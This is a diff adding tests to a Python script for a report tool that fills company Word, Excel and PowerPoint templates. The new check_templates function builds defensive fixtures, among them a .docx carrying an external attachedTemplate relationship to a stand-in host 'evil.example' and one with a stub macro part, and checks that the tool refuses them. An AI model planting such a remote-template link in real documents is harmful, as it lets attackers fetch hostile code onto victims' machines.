@@ -184,6 +184,79 @@ def draw(path):
     return len(pages)
 
 
+def rezip(source, target, change, extra=()):
+    with zipfile.ZipFile(source) as a, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as b:
+        for name in a.namelist():
+            b.writestr(name, change(name, a.read(name)))
+        for name, data in extra:
+            b.writestr(name, data)
+
+
+def check_templates(f, made):
+    """A company's own files: names become figures, also when a program cut them in pieces; what is unknown, a macro and a link are refused."""
+    fill = ("--db", "demo.db", "report", "weekly", "--period", PERIOD, "--as", WHO, "--out", "filled", "--template")
+    d = docx.Document()
+    d.add_heading("{{lands.heading}}", 1)
+    p = d.add_paragraph("Closed {{clo")
+    p.add_run("sed}} of {{target.full}},").bold = True
+    p.add_run(" by {{organization}}")
+    d.add_table(1, 1).cell(0, 0).text = "{{headline}}"
+    d.save("own.docx")
+    out = run(perennial, *fill, "own.docx").strip()
+    flat = texts_docx_plain(out)
+    check("Closed %s of %s, by Palisade Networks" % (head(f["closed"]), money(f["target"])) in flat, "the template's sentence is %s" % flat)
+    check(any(t.startswith("Q4 2026 has") for t in flat) and not any("{{" in t for t in flat), "names are left in %s" % flat)
+    check(json.loads(run(root + "/node_modules/.bin/ooxml-validator", out))["ok"], "the filled brief is not valid")
+
+    book = openpyxl.Workbook()
+    book.active.append(["Closed", "{{closed}}", "=B1*2", "so far {{closed}}"])
+    book.save("own.xlsx")
+    out = run(perennial, *fill, "own.xlsx").strip()
+    row = next(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
+    check(abs(Decimal(str(row[1])) - f["closed"]) < Decimal("0.005") and row[2] == "=B1*2" and row[3] == "so far " + head(f["closed"]), "the workbook's row is %s" % (row,))
+
+    rezip(made["pptx"], "own.pptx", lambda n, b: re.sub(rb"<a:t>[^<]*</a:t>", b"<a:t>{{second}}</a:t>", b, count=1) if n == "ppt/slides/slide1.xml" else b)
+    out = run(perennial, *fill, "own.pptx").strip()
+    check(texts_pptx(out)[0].startswith("In 8 of 10"), "the slide says %s" % texts_pptx(out)[0])
+
+    relation = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
+    bad = docx.Document()
+    bad.add_paragraph("{{nothing.like.it}} and {{closed.often}}")
+    bad.save("unknown.docx")
+    rezip("own.docx", "macro.docx", lambda n, b: b, [("word/vbaProject.bin", b"x")])
+    rezip("own.docx", "link.docx", lambda n, b: b.replace(b"</Relationships>", relation + b"</Relationships>") if n == "word/_rels/document.xml.rels" else b)
+    open("text.docx", "w").write("no package")
+    with open("large.docx", "wb") as large:
+        large.truncate(21 << 20)
+    for name, want in (("unknown.docx", "{{nothing.like.it}}, {{closed.often}}"), ("macro.docx", "macro"), ("link.docx", "reaches out"), ("text.docx", "damaged"),
+                       ("large.docx", "20 MB"), ("none.docx", "no such template"), ("own.odt", "is a .docx")):
+        done = subprocess.run([perennial, *fill[:-3], "--out", "refused", "--template", name], capture_output=True, text=True)
+        check(done.returncode == 1 and want in done.stderr, "%s: %d %s" % (name, done.returncode, done.stderr))
+    check(not os.listdir("refused"), "something was written from a template that was refused")
+
+
+def check_quiet():
+    """Nothing moved, nothing is stuck: two pages. And an empty store has its pack, too."""
+    with open("quiet.csv", "w", newline="") as f:
+        w = csv.writer(f)
+        w.writerow("contract_number,line_number,end_user_account,owner,region,product,currency,start_date,end_date,net_amount".split(","))
+        for i in range(60):
+            month = i % 12 + 1
+            w.writerow(["Q%d" % i, 1, "Customer %02d" % i, "Rep %d" % (i % 4), ("East", "West")[i % 2], "Core", "USD", "2025-%02d-05" % month, "2026-%02d-04" % month, 20000 + i * 500])
+    run(perennial, "--db", "quiet.db", "import", "contracts", "quiet.csv", "--yes")
+    made = run(perennial, "--db", "quiet.db", "report", "weekly", "--period", PERIOD, "--out", "quiet", "--formats", "docx").strip()
+    pages = draw(made)
+    check(pages in (None, 2), "the brief of a quiet week has %s pages" % pages)
+    run(perennial, "--db", "empty.db", "migrate")
+    for p in run(perennial, "--db", "empty.db", "report", "weekly", "--out", "empty", "--formats", "docx,pptx,xlsx").split():
+        check(json.loads(run(root + "/node_modules/.bin/ooxml-validator", p))["ok"], "%s of an empty store is not valid" % p)
+
+
+def texts_docx_plain(path):
+    xml = minidom.parseString(zipfile.ZipFile(path).read("word/document.xml"))
+    return ["".join(t.firstChild.data for t in p.getElementsByTagName("w:t") if t.firstChild) for p in xml.getElementsByTagName("w:p")]
+
+
 def main():
     os.chdir(tempfile.mkdtemp())
     run(perennial, "--db", "demo.db", "demo", "--lines", "3000", "--seed", "7", "--today", DAY)
@@ -215,12 +288,14 @@ def main():
             check_story(by["pptx"], texts_pptx(by["pptx"]), f, rates, regions)
             page = open(by["html"], encoding="utf-8").read()
             check_story(by["html"], re.findall(r">([^<>]+)<", page), f, rates, regions)
+            check_templates(f, by)
             check("<script" not in page and "src=" not in page, "the page for print loads something")
         slides = len([n for n in zipfile.ZipFile(by["pptx"]).namelist() if re.match(r"ppt/slides/slide\d+\.xml$", n)])
         drawn = draw(by["pptx"])
         check(slides <= 8 and drawn in (None, slides), "%s: %d slides, %s pages" % (by["pptx"], slides, drawn))
         if language == "en":
             draw(by["docx"])
+    check_quiet()
     print("the pack agrees with the desk" if not fails else "%d failures" % fails)
     sys.exit(1 if fails else 0)
 
